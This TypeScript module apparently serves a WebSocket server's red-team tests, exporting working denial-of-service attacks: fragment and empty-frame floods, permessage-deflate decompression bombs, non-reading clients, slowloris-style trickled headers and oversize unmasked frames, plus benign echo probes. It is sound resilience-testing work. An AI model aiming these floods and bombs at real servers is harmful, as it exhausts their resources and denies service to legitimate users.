/**
 * Attacks on a WebSocket server, one exported function per row of issue 15,
 * each taking the target address and an `AbortSignal` and returning what the
 * attacker saw. They speak raw TCP with hand-made frames (nothing from
 * `websocket/`), so the same attacks run against any server: ours (either
 * engine) in the red-team tests, npm `ws` in `bench/redteam.ts` (rows 4, 6, 12–15).
 *
 * Every attack stops when `signal` aborts and closes everything it opened.
 *
 * @module
 */

import zlib from "node:zlib";
import { sleep } from "../../_tools/sleep.ts";

/** Where the server listens. */
export interface AttackTarget {
  hostname: string;
  port: number;
}

/** What an attacker saw. */
export interface AttackStats {
  /** TCP connections opened. */
  connections: number;
  /** Bytes written. */
  bytesSent: number;
  /**
   * How connections ended, counted: a close code from a close frame
   * (`"1009"`), an HTTP status (`"http 408"`), `"eof"` (TCP closed without
   * either), `"open"` (still open when the attack stopped).
   */
  outcomes: Record<string, number>;
}

const encoder = new TextEncoder();

function newStats(): AttackStats {
  return { connections: 0, bytesSent: 0, outcomes: {} };
}

function count(stats: AttackStats, outcome: string): void {
  stats.outcomes[outcome] = (stats.outcomes[outcome] ?? 0) + 1;
}

function closeQuietly(conn: Deno.Conn): void {
  try {
    conn.close();
  } catch { /* already closed */ }
}

/** One masked (client) frame. */
export function clientFrame(
  opcode: number,
  payload: Uint8Array,
  { fin = true, rsv1 = false, masked = true } = {},
): Uint8Array {
  const length = payload.length;
  const extra = length < 126 ? 0 : length < 65536 ? 2 : 8;
  const out = new Uint8Array(2 + extra + (masked ? 4 : 0) + length);
  out[0] = (fin ? 0x80 : 0) | (rsv1 ? 0x40 : 0) | opcode;
  let at = 2;
  if (extra === 0) out[1] = length;
  else if (extra === 2) {
    out[1] = 126;
    out[2] = length >> 8;
    out[3] = length & 0xff;
    at = 4;
  } else {
    out[1] = 127;
    new DataView(out.buffer).setBigUint64(2, BigInt(length));
    at = 10;
  }
  if (masked) {
    out[1] |= 0x80;
    const key = crypto.getRandomValues(new Uint8Array(4));
    out.set(key, at);
    at += 4;
    for (let i = 0; i < length; i++) out[at + i] = payload[i] ^ key[i & 3];
  } else out.set(payload, at);
  return out;
}

/** A frame header alone, for a payload that follows in later writes (unmasked payload bytes: mask key 0). */
function frameHeader(opcode: number, length: number, masked: boolean): Uint8Array {
  const out = new Uint8Array(10 + (masked ? 4 : 0));
  out[0] = 0x80 | opcode;
  out[1] = (masked ? 0x80 : 0) | 127;
  new DataView(out.buffer).setBigUint64(2, BigInt(length));
  return out; // a zero mask key leaves the payload as it is
}

/** A raw client connection after a 101, or the status/outcome that refused it. */
interface Opened {
  conn: Deno.Conn | null;
  outcome?: string;
}

/** Connects and runs the opening handshake by hand. */
async function openRaw(
  target: AttackTarget,
  path: string,
  stats: AttackStats,
  extraHeaders = "",
): Promise<Opened> {
  let conn: Deno.Conn;
  try {
    conn = await Deno.connect({ hostname: target.hostname, port: target.port });
  } catch {
    return { conn: null, outcome: "refused" };
  }
  stats.connections++;
  const key = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(16))));
  const head = `GET ${path} HTTP/1.1\r\nHost: ${target.hostname}:${target.port}\r\n` +
    `Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\n` +
    `Sec-WebSocket-Version: 13\r\n${extraHeaders}\r\n`;
  try {
    await conn.write(encoder.encode(head));
    const buf = new Uint8Array(4096);
    let length = 0;
    while (true) {
      const n = await conn.read(buf.subarray(length));
      if (n === null) {
        closeQuietly(conn);
        return { conn: null, outcome: "eof" };
      }
      length += n;
      const text = new TextDecoder("latin1").decode(buf.subarray(0, length));
      const end = text.indexOf("\r\n\r\n");
      if (end < 0) continue;
      const status = Number(text.slice(9, 12));
      if (status !== 101) {
        closeQuietly(conn);
        return { conn: null, outcome: `http ${status}` };
      }
      return { conn };
    }
  } catch {
    closeQuietly(conn);
    return { conn: null, outcome: "eof" };
  }
}

/**
 * Reads what the server sends until EOF and reports the first close code
 * (or `"eof"`). Keeps reading after a close frame, so the server's TCP close
 * is seen too.
 */
async function watchClose(conn: Deno.Conn): Promise<string> {
  const buf = new Uint8Array(64 * 1024);
  let pending = new Uint8Array(0);
  let code: string | undefined;
  while (true) {
    let n: number | null;
    try {
      n = await conn.read(buf);
    } catch {
      n = null;
    }
    if (n === null) return code ?? "eof";
    if (code !== undefined) continue;
    const joined = new Uint8Array(pending.length + n);
    joined.set(pending);
    joined.set(buf.subarray(0, n), pending.length);
    let at = 0;
    while (joined.length - at >= 2) {
      const opcode = joined[at] & 0x0f;
      let length = joined[at + 1] & 0x7f;
      let header = 2;
      if (length === 126) {
        if (joined.length - at < 4) break;
        length = (joined[at + 2] << 8) | joined[at + 3];
        header = 4;
      } else if (length === 127) {
        if (joined.length - at < 10) break;
        length = Number(new DataView(joined.buffer, at + 2, 8).getBigUint64(0));
        header = 10;
      }
      if (joined.length - at < header + length) break;
      if (opcode === 8) {
        code = length >= 2 ? String((joined[at + header] << 8) | joined[at + header + 1]) : "1005";
        break;
      }
      at += header + length;
    }
    // Keep at most one partial frame head; skip payloads we do not need.
    pending = joined.length - at > 1 << 20 ? new Uint8Array(0) : joined.slice(at);
  }
}

/** Writes until done, failing quietly when the server hung up. */
async function send(conn: Deno.Conn, data: Uint8Array, stats: AttackStats): Promise<boolean> {
  try {
    let written = 0;
    while (written < data.length) written += await conn.write(data.subarray(written));
    stats.bytesSent += data.length;
    return true;
  } catch {
    return false;
  }
}

/**
 * Runs `connections` workers, each repeating `round` on a fresh connection
 * until `signal` aborts (or `once` is set), and collects the outcomes.
 */
async function swarm(
  target: AttackTarget,
  signal: AbortSignal,
  { connections, path, extraHeaders = "", once = false }: {
    connections: number;
    path: string;
    extraHeaders?: string;
    once?: boolean;
  },
  round: (conn: Deno.Conn, stats: AttackStats, closed: Promise<string>) => Promise<void>,
): Promise<AttackStats> {
  const stats = newStats();
  const open = new Set<Deno.Conn>();
  const onAbort = () => {
    for (const conn of open) closeQuietly(conn);
  };
  signal.addEventListener("abort", onAbort, { once: true });
  const worker = async () => {
    while (!signal.aborted) {
      const opened = await openRaw(target, path, stats, extraHeaders);
      if (!opened.conn) {
        count(stats, opened.outcome ?? "eof");
        if (once) return;
        await sleep(50, signal);
        continue;
      }
      const conn = opened.conn;
      open.add(conn);
      const closed = watchClose(conn);
      await round(conn, stats, closed).catch(() => {});
      const outcome = await Promise.race([
        closed,
        new Promise<string>((resolve) => {
          if (signal.aborted) resolve("open");
          signal.addEventListener("abort", () => resolve("open"), { once: true });
        }),
      ]);
      count(stats, outcome);
      open.delete(conn);
      closeQuietly(conn);
      await closed;
      if (once) return;
    }
  };
  await Promise.all(Array.from({ length: connections }, worker));
  signal.removeEventListener("abort", onAbort);
  return stats;
}

/** Resolves when `promise` settles or `signal` aborts, whichever is first. */
function untilAbort<T>(promise: Promise<T>, signal: AbortSignal): Promise<T | undefined> {
  return Promise.race([
    promise,
    new Promise<undefined>((resolve) => {
      if (signal.aborted) resolve(undefined);
      signal.addEventListener("abort", () => resolve(undefined), { once: true });
    }),
  ]);
}

/**
 * Row 4: one binary message sent as `pieceSize`-byte fragments, as many as
 * `pieces` (then the final fragment), on each of `connections` connections,
 * again and again. A linear reassembly costs the server its bytes; a
 * quadratic one burns seconds of CPU per MiB.
 */
export function fragmentFlood(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 4, pieces = 1 << 20, pieceSize = 1, path = "/echo" } = {},
): Promise<AttackStats> {
  const piece = clientFrame(0, new Uint8Array(pieceSize), { fin: false });
  const batchFrames = 4096;
  const batch = new Uint8Array(piece.length * batchFrames);
  for (let i = 0; i < batchFrames; i++) batch.set(piece, i * piece.length);
  return swarm(target, signal, { connections, path }, async (conn, stats, closed) => {
    let over = false;
    closed.then(() => over = true);
    if (!await send(conn, clientFrame(2, new Uint8Array(pieceSize), { fin: false }), stats)) return;
    for (let sent = 0; sent < pieces && !over && !signal.aborted; sent += batchFrames) {
      if (!await send(conn, batch, stats)) return;
    }
    if (!over) await send(conn, clientFrame(0, new Uint8Array(pieceSize)), stats);
    await untilAbort(closed, signal);
  });
}

/**
 * Row 6: empty binary frames (6 bytes each on the wire) as fast as the server
 * takes them, on `connections` connections to a path whose app never reads.
 */
export function emptyFrameFlood(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 20, path = "/slow" } = {},
): Promise<AttackStats> {
  const empty = clientFrame(2, new Uint8Array(0));
  const batchFrames = 10_000;
  const batch = new Uint8Array(empty.length * batchFrames);
  for (let i = 0; i < batchFrames; i++) batch.set(empty, i * empty.length);
  return swarm(target, signal, { connections, path, once: true }, async (conn, stats, closed) => {
    let over = false;
    closed.then(() => over = true);
    while (!over && !signal.aborted) {
      // A server that stops reading makes this write wait: that is the backpressure.
      if (!await untilAbort(send(conn, batch, stats), signal)) return;
    }
  });
}

/**
 * Row 12: permessage-deflate bombs. Each of `connections` connections
 * negotiates permessage-deflate and sends `messages` messages that inflate
 * to `inflatedSize` bytes of zeros (about a thousandth of that on the
 * wire), to a path whose app never reads.
 */
export function deflateBomb(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 200, messages = 3, inflatedSize = 16 * 1024 * 1024 - 1024, path = "/slow" } = {},
): Promise<AttackStats> {
  const deflated = zlib.deflateRawSync(new Uint8Array(inflatedSize), {
    finishFlush: zlib.constants.Z_SYNC_FLUSH,
  });
  // RFC 7692 §7.2.1: the sync-flush trailer is left off.
  const body = new Uint8Array(deflated.buffer, deflated.byteOffset, deflated.byteLength - 4);
  const frame = clientFrame(2, body, { rsv1: true });
  return swarm(
    target,
    signal,
    {
      connections,
      path,
      once: true,
      extraHeaders: "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n",
    },
    async (conn, stats, closed) => {
      for (let i = 0; i < messages; i++) {
        if (!await untilAbort(send(conn, frame, stats), signal)) return;
      }
      await untilAbort(closed, signal);
    },
  );
}

/**
 * Row 13: `connections` clients that connect and never read a byte (the
 * server's broadcasts pile up for them). The attacker cannot see their close
 * frames (it does not read): the server reports its side.
 */
export function nonReaders(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 20, path = "/sink" } = {},
): Promise<AttackStats> {
  const stats = newStats();
  const open: Deno.Conn[] = [];
  return (async () => {
    for (let i = 0; i < connections && !signal.aborted; i++) {
      const opened = await openRaw(target, path, stats);
      if (opened.conn) open.push(opened.conn);
      else count(stats, opened.outcome ?? "eof");
    }
    await sleep(1e9, signal);
    for (const conn of open) {
      count(stats, "open");
      closeQuietly(conn);
    }
    return stats;
  })();
}

/**
 * Row 14: `connections` connections that send the start of an HTTP request
 * head and then one more header line every `trickleMs`, never finishing it.
 * With `answerWithinMs`, each connection gives up (outcome "open") that long
 * after its own connect rather than when `signal` aborts: on a loaded machine
 * the last connections open seconds after the first, and a deadline shared by
 * all of them would count those as unanswered before the server's timer for
 * them could have run out.
 */
export function slowHeads(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 1000, trickleMs = 500, answerWithinMs = Infinity } = {},
): Promise<AttackStats> {
  const stats = newStats();
  const one = async () => {
    let conn: Deno.Conn;
    try {
      conn = await Deno.connect({ hostname: target.hostname, port: target.port });
    } catch {
      count(stats, "refused");
      return;
    }
    stats.connections++;
    const own = Number.isFinite(answerWithinMs)
      ? AbortSignal.any([signal, AbortSignal.timeout(answerWithinMs)])
      : signal;
    const answer = (async () => {
      const buf = new Uint8Array(1024);
      let text = "";
      while (true) {
        let n: number | null;
        try {
          n = await conn.read(buf);
        } catch {
          n = null;
        }
        if (n === null) break;
        text += new TextDecoder("latin1").decode(buf.subarray(0, n));
      }
      return text.startsWith("HTTP/1.1 ") ? `http ${text.slice(9, 12)}` : "eof";
    })();
    let over = false;
    answer.then(() => over = true);
    const onAbort = () => closeQuietly(conn);
    own.addEventListener("abort", onAbort, { once: true });
    if (await send(conn, encoder.encode("GET / HTTP/1.1\r\nHost: x\r\n"), stats)) {
      for (let i = 0; !over && !own.aborted; i++) {
        await sleep(trickleMs, own);
        if (over || own.aborted) break;
        if (!await send(conn, encoder.encode(`X-Slow-${i}: ${i}\r\n`), stats)) break;
      }
    }
    const outcome = over ? await answer : "open";
    own.removeEventListener("abort", onAbort);
    closeQuietly(conn);
    await answer;
    count(stats, outcome);
  };
  const all: Promise<void>[] = [];
  return (async () => {
    // Opened in bursts of 100, so the accept queue is not what limits the attack.
    for (let i = 0; i < connections && !signal.aborted; i++) {
      all.push(one());
      if (i % 100 === 99) await sleep(10, signal);
    }
    await Promise.all(all);
    return stats;
  })();
}

/**
 * Row 15: frames whose header claims `frameSize` bytes (over the server's
 * limit), with the payload streamed behind it as fast as the server takes
 * it; `masked: false` sends them unmasked, which RFC 6455 §5.1 forbids.
 */
export function oversizeFrames(
  target: AttackTarget,
  signal: AbortSignal,
  { connections = 40, frameSize = 63 * 1024 * 1024, masked = true, path = "/echo" } = {},
): Promise<AttackStats> {
  const chunk = new Uint8Array(1024 * 1024);
  return swarm(target, signal, { connections, path, once: true }, async (conn, stats, closed) => {
    let over = false;
    closed.then(() => over = true);
    if (!await send(conn, frameHeader(2, frameSize, masked), stats)) return;
    for (let sent = 0; sent < frameSize && !over && !signal.aborted; sent += chunk.length) {
      if (!await untilAbort(send(conn, chunk, stats), signal)) return;
    }
    await untilAbort(closed, signal);
  });
}

/**
 * A well-behaved client's probe: connect (built-in client), send one text
 * message to `url`, wait for its echo, close. For `probeDuring()`.
 */
export function echoProbe(url: string): (signal: AbortSignal) => Promise<void> {
  return async (signal) => {
    const ws = new WebSocket(url);
    const closed = new Promise<void>((resolve) => ws.addEventListener("close", () => resolve()));
    try {
      await new Promise<void>((resolve, reject) => {
        ws.onopen = () => resolve();
        ws.onerror = () => reject(new Error("probe failed to connect"));
        signal.addEventListener("abort", () => reject(signal.reason), { once: true });
      });
      const echoed = new Promise<void>((resolve) => ws.onmessage = () => resolve());
      ws.send("probe");
      await echoed;
    } finally {
      ws.close();
      await closed;
    }
  };
}

/**
 * A reading member of a broadcast: one connection kept open; each probe
 * waits for the next broadcast message. Dispose it to close.
 */
export async function broadcastProbe(
  url: string,
): Promise<{ probe: (signal: AbortSignal) => Promise<void> } & AsyncDisposable> {
  const ws = new WebSocket(url);
  ws.binaryType = "arraybuffer";
  const closed = new Promise<void>((resolve) => ws.addEventListener("close", () => resolve()));
  await new Promise<void>((resolve, reject) => {
    ws.onopen = () => resolve();
    ws.onerror = () => reject(new Error("broadcast probe failed to connect"));
  });
  let waiters: (() => void)[] = [];
  ws.onmessage = () => {
    const woken = waiters;
    waiters = [];
    for (const wake of woken) wake();
  };
  return {
    probe: () => new Promise<void>((resolve) => waiters.push(resolve)),
    [Symbol.asyncDispose]: async () => {
      ws.close();
      await closed;
    },
  };
}
